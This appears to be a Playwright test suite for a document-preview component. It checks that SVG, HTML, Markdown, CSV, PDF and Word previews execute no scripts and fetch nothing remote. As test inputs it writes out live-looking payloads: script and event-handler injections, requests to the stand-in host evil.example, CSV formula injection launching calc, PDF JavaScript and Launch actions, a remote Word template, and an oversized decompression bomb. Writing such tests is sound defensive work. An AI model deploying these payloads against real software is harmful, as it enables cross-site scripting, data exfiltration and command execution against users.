import { expect } from '@playwright/test';
import { drawing, makeDocx, paragraph } from '../preview/make-office.ts';
import { makePdf } from '../preview/make-pdf.ts';
import { PICTURE } from './letters.ts';
import { frameOf, given, show, test, under } from './preview-test.ts';

const EVIL = 'https://evil.example';

for (const policy of ['page', 'extension'] as const) {
  test.describe(`under the policy of the ${policy}`, () => {
    test.use({ policy });

    test('a drawing runs nothing and asks for nothing', async ({ shown }) => {
      const drawn = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="60" onload="parent.pwned=1"><script>top.pwned = 1; fetch('${EVIL}/a')</script><image href="${EVIL}/b.png" width="9" height="9"/><style>@import url(${EVIL}/c.css);</style><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/d.png" onerror="top.pwned=1"/></foreignObject><rect width="80" height="60" fill="teal"/></svg>`;
      await show(shown, given('a drawing.svg', drawn));
      await expect(shown.getByRole('img', { name: 'a drawing.svg' })).toHaveJSProperty(
        'complete',
        true,
      );
      await expect(under(shown)).toContainText('SVG drawing, 80 × 60');
      await expect(shown.locator('.file-preview .sight svg')).toHaveCount(0);
    });

    test('a page named as text is read, a page is shown without what acts', async ({ shown }) => {
      const html = `<!doctype html><title>x</title><script>top.pwned=1</script><body onload="top.pwned=1"><p>Words</p><img src="${EVIL}/a.png" onerror="top.pwned=1"><iframe src="${EVIL}/b"></iframe><form action="${EVIL}/c"><input autofocus onfocus="top.pwned=1"></form><meta http-equiv="refresh" content="0;url=${EVIL}/d">`;
      await show(shown, given('a.txt', html));
      await expect(shown.locator('.file-preview pre')).toContainText(
        '<script>top.pwned=1</script>',
      );
      await show(shown, given('a.html', html));
      await expect(frameOf(shown).getByText('Words')).toBeVisible();
      await expect(frameOf(shown).locator('script, form, iframe, input, [onload]')).toHaveCount(0);
    });

    test('Markdown runs nothing, loads nothing, and its links lead out', async ({ shown }) => {
      const text = `# Title\n\n<script>top.pwned=1</script>\n\n![cat](${EVIL}/a.png) <img src=x onerror="top.pwned=1">\n\n[go](javascript:top.pwned=1) [web](https://example.org/b) <style>@import "${EVIL}/c"</style>\n\n| a | b |\n| - | - |\n| 1 | 2 |\n`;
      await show(shown, given('a.md', text));
      await expect(shown.getByRole('heading', { name: 'Title' })).toBeVisible();
      await expect(shown.getByText('Picture: cat')).toBeVisible();
      const link = shown.getByRole('link', { name: 'web' });
      await expect(link).toHaveAttribute('rel', /noopener/);
      await expect(shown.locator('.laid-out :is(script, style, img)')).toHaveCount(0);
      await expect(shown.locator('.laid-out a[href]')).toHaveCount(1);
      await shown.getByRole('button', { name: 'As written' }).click();
      await expect(shown.locator('.file-preview pre').last()).toContainText('<script>');
    });

    test('a table’s formulas are letters', async ({ shown }) => {
      const csv = `name;sum\n=HYPERLINK("${EVIL}","x");12,50\n@cmd|' /C calc'!A0;-3\n<img src=x onerror="top.pwned=1">;4`;
      await show(shown, given('a.csv', csv));
      const cells = shown.getByRole('cell');
      await expect(cells.filter({ hasText: 'HYPERLINK' })).toHaveText(`=HYPERLINK("${EVIL}","x")`);
      await expect(cells.filter({ hasText: '<img' })).toBeVisible();
      await expect(shown.getByRole('cell', { name: '12,50' })).toHaveClass('number');
    });

    test('a PDF’s scripts and actions do nothing; its web link opens apart', async ({ shown }) => {
      const pdf = makePdf({
        pages: ['First page', 'Second'],
        catalog: `/OpenAction << /S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("${EVIL}"\\);) >> /AA << /WC << /S /URI /URI (${EVIL}/aa) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\("${EVIL}"\\)) >>] >> >>`,
        annotations: `<< /Type /Annot /Subtype /Link /Rect [40 190 200 230] /A << /S /URI /URI (https://example.org/terms) >> >> << /Type /Annot /Subtype /Link /Rect [40 90 200 130] /A << /S /URI /URI (javascript:top.pwned=1) >> >> << /Type /Annot /Subtype /Link /Rect [40 50 200 80] /A << /S /Launch /F (calc.exe) >> >>`,
      });
      await show(shown, given('a.pdf', pdf));
      await expect(shown.locator('.textLayer').first()).toContainText('First page');
      await expect(under(shown)).toContainText('Page 1 of 2');
      const links = shown.locator('.pdf-page .links a');
      await expect(links).toHaveCount(1);
      await expect(links).toHaveAttribute('href', 'https://example.org/terms');
      await expect(links).toHaveAttribute('rel', /noopener/);
    });

    test('a Word document loads nothing from elsewhere and no page in it', async ({ shown }) => {
      const body = [
        paragraph('Dear Ines'),
        drawing('own'),
        drawing('far', 'link'),
        drawing('far'),
        '<w:altChunk r:id="chunk"/>',
        '<w:p><w:hyperlink r:id="js"><w:r><w:t>bad link</w:t></w:r></w:hyperlink></w:p>',
        '<w:p><w:hyperlink r:id="web"><w:r><w:t>good link</w:t></w:r></w:hyperlink></w:p>',
        paragraph('&lt;script&gt;top.pwned=1&lt;/script&gt;'),
        '<w:p><m:oMath><m:r><m:t>a+b</m:t></m:r></m:oMath></w:p>',
      ].join('');
      const docx = makeDocx({
        body,
        relations: [
          ['own', 'image', 'media/a.png'],
          ['far', 'image', `${EVIL}/a.png`, true],
          ['chunk', 'aFChunk', 'chunk.html'],
          ['js', 'hyperlink', 'javascript:top.pwned=1', true],
          ['web', 'hyperlink', 'https://example.org/x', true],
          ['tpl', 'attachedTemplate', `${EVIL}/t.dotm`, true],
        ],
        parts: {
          'word/media/a.png': PICTURE,
          'word/chunk.html': '<script>top.pwned=1</script><img src=x onerror="top.pwned=1">',
        },
      });
      await show(shown, given('a.docx', docx));
      const frame = frameOf(shown);
      await expect(frame.getByText('Dear Ines')).toBeVisible();
      await expect(frame.locator('img')).toHaveCount(1);
      await expect(frame.locator('img')).toHaveJSProperty('complete', true);
      await expect(frame.locator('script, iframe, math')).toHaveCount(0);
      await expect(frame.locator('a[href]')).toHaveCount(1);
      await expect(under(shown)).toContainText('Formulas are letters in a row.');
      await expect(shown.locator('.file-preview iframe')).not.toHaveAttribute('sandbox', /scripts/);
    });

    test('a bomb is stopped, and what it was is said', async ({ shown }) => {
      const bomb = makeDocx({
        body: '',
        parts: { 'word/media/a.png': new Uint8Array(210_000_000) },
      });
      await show(shown, given('bomb.docx', bomb));
      await expect(shown.getByRole('alert')).toContainText('There is too much in this file');
      expect(await shown.evaluate(() => window.faults)).toEqual(['too-large']);
    });
  });
}
